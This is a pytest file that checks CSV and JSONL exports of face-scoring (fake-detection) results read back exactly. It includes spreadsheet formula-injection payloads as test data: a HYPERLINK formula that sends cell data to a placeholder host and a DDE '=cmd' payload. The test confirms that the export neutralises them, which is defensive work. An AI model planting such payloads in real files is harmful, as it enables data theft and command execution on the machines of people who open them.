"""What is exported reads back equal: every value, hostile names, nulls, duplicates of a path."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import polars
import pyarrow as pa
import pyarrow.csv as pc_csv
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tasks.manifests.schemas import SCORES
from tasks.params import FauxfaceError
from tasks.scoring.export import IMAGE_COLUMNS, export_csv, export_jsonl, first_rows
from tasks.scoring.store import ScoreFolder, ScoreStore
from tests.scoring.made import empty_row, face_row, make_scoring

# Text of others that a spreadsheet would compute, or send somewhere.
FORMULAS = ['=HYPERLINK("http://x/"&A1).jpg', "+1.jpg", "-1.jpg", "@SUM(A1).jpg", "\t=1.jpg", "\r=1.jpg", "\n=1.jpg"]
NAMES = ['say "cheese".jpg', "a,b;c.jpg", "line\nbreak.jpg", "a=1+1.jpg", " ", "ein Bild ä\u202e.jpg", "\\udc80.jpg"]
ROWS = [
    face_row(0, 0.9, n_faces=2),
    face_row(0, 0.1, n_faces=2, face_index=1, image_p_fake=float(np.float32(0.9)), image_is_fake=True),
    empty_row(1, "no_face"),
    empty_row(2, "truncated", error='ends, "early"'),
    *(face_row(3 + place, place / 7, member=name) for place, name in enumerate(NAMES)),
    face_row(10, 0.3, member="twice.jpg"),
    face_row(11, 0.4, member="twice.jpg"),
]


@pytest.fixture
def folder(tmp_path: Path) -> ScoreFolder:
    return make_scoring(ScoreStore(str(tmp_path / "scores")), "dump", ROWS).folder


# Written out, for the code under test must not say what is right: eyes, nose, mouth; left before right, x before y.
POINTS = [
    "left_eye_x", "left_eye_y", "right_eye_x", "right_eye_y", "nose_x", "nose_y", "mouth_left_x", "mouth_left_y",
    "mouth_right_x", "mouth_right_y",
]  # fmt: skip


def read_csv(path: Path) -> list[dict[str, Any]]:
    kinds = {name: SCORES.field(name).type for name in SCORES.names if name not in ("archive", "landmarks")}
    kinds |= {"archive": pa.string(), **dict.fromkeys(POINTS, pa.float32())}
    options = pc_csv.ConvertOptions(column_types=kinds, strings_can_be_null=True, quoted_strings_can_be_null=False)
    newlines = pc_csv.ParseOptions(newlines_in_values=True)
    rows: list[dict[str, Any]] = pc_csv.read_csv(path, convert_options=options, parse_options=newlines).to_pylist()
    for row in rows:
        if "nose_x" in row:
            points = [row.pop(name) for name in POINTS]
            row["landmarks"] = None if points[0] is None else points
    return rows


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n")[:-1]]
    schema = pa.schema([SCORES.field(name) for name in rows[0]])
    table: list[dict[str, Any]] = pa.Table.from_pylist(rows, schema=schema).to_pylist()
    return table


@pytest.mark.parametrize(("export", "read"), [(export_csv, read_csv), (export_jsonl, read_jsonl)])
def test_faces_read_back_equal(folder: ScoreFolder, tmp_path: Path, export: Any, read: Any) -> None:
    path = tmp_path / "out" / "faces"
    assert export(folder, path, images=False) == len(ROWS)
    assert read(path) == folder.read().to_pylist()
    assert [each.name for each in path.parent.iterdir()] == ["faces"]


def test_each_landmark_has_its_columns_in_the_order_of_the_scores(tmp_path: Path) -> None:
    landmarks = [float(place) for place in range(10)]
    folder = make_scoring(ScoreStore(str(tmp_path / "scores")), "dump", [face_row(0, 0.5, landmarks=landmarks)]).folder
    export_csv(folder, tmp_path / "out.csv", images=False)
    frame = polars.read_csv(tmp_path / "out.csv")
    assert [frame[name][0] for name in POINTS] == landmarks
    at = frame.columns.index("left_eye_x")
    assert frame.columns[at : at + 10] == POINTS


@pytest.mark.parametrize(("export", "read"), [(export_csv, read_csv), (export_jsonl, read_jsonl)])
def test_images_have_one_row_each_with_their_verdict(
    folder: ScoreFolder, tmp_path: Path, export: Any, read: Any
) -> None:
    path = tmp_path / "images"
    assert export(folder, path, images=True) == 12
    rows = read(path)
    assert [row["index"] for row in rows] == list(range(12))
    assert rows == first_rows(folder.read(IMAGE_COLUMNS)).to_pylist()
    assert (rows[0]["image_p_fake"], rows[0]["image_is_fake"]) == (float(np.float32(0.9)), True)
    assert (rows[1]["image_p_fake"], rows[1]["image_is_fake"], rows[1]["status"]) == (None, None, "no_face")


def test_other_readers_understand_the_csv(folder: ScoreFolder, tmp_path: Path) -> None:
    export_csv(folder, tmp_path / "out.csv", images=False)
    frame = polars.read_csv(tmp_path / "out.csv")
    assert frame["member"].to_list() == [row["member"] for row in ROWS]
    assert frame["p_fake"].drop_nulls().len() == len(ROWS) - 2


@pytest.mark.parametrize("images", [False, True])
def test_no_text_of_a_csv_is_a_formula_and_no_figure_is_text(tmp_path: Path, images: bool) -> None:
    rows = [face_row(place, 0.5, member=name, box_x=-2.5) for place, name in enumerate(FORMULAS)]
    rows.append(empty_row(len(rows), "unreadable", error="=cmd|' /C calc'!A0"))
    folder = make_scoring(ScoreStore(str(tmp_path / "scores")), "dump", rows).folder
    export_csv(folder, tmp_path / "out.csv", images)
    read = read_csv(tmp_path / "out.csv")
    assert [row["member"] for row in read[:-1]] == [f"'{name}" for name in FORMULAS]
    assert read[-1]["error"] == "'=cmd|' /C calc'!A0"
    if not images:
        assert read[0]["box_x"] == -2.5
    export_jsonl(folder, tmp_path / "out.jsonl", images)
    assert [row["member"] for row in read_jsonl(tmp_path / "out.jsonl")[:-1]] == FORMULAS


def test_a_scoring_without_rows_gives_a_header(tmp_path: Path) -> None:
    folder = ScoreStore(str(tmp_path / "scores")).folder("0" * 12, "a-0")
    assert export_csv(folder, tmp_path / "out.csv", images=True) == 0
    assert (tmp_path / "out.csv").read_text().replace('"', "").strip().split(",") == IMAGE_COLUMNS


def test_a_damaged_part_leaves_no_file(folder: ScoreFolder, tmp_path: Path) -> None:
    part = Path(folder.url, "part-00001.parquet")
    part.write_bytes(part.read_bytes()[:100])
    for export in (export_csv, export_jsonl):
        with pytest.raises(FauxfaceError, match=r"part-00001\.parquet: cannot be read"):
            export(folder, tmp_path / "out", images=False)
    assert [each.name for each in tmp_path.iterdir()] == ["scores"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.floats(0, 1, width=32), min_size=1, max_size=30))
def test_every_float_reads_back_as_it_is(tmp_path_factory: pytest.TempPathFactory, values: list[float]) -> None:
    folder = ScoreStore(str(tmp_path_factory.mktemp("scores"))).folder("0" * 12, "a-0")
    folder.write_part(0, [face_row(place, value) for place, value in enumerate(values)], {})
    path = Path(folder.url).parent / "out"
    export_jsonl(folder, path, images=False)
    assert [row["p_fake"] for row in read_jsonl(path)] == values
    export_csv(folder, path, images=False)
    assert [row["p_fake"] for row in read_csv(path)] == values
